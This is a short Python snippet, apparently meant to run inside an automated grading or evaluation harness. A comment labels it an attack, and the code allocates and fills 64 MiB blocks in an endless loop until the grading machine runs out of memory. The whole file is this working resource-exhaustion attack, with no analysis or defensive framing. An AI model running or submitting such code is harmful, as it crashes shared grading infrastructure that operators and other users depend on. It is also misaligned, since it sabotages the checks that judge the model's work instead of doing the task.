# Attack: allocate without bound (every byte written, so the pages are really used) until the grading
# machine runs out of memory.
_blocks = []
while True:
    _blocks.append(b"\1" * (64 << 20))
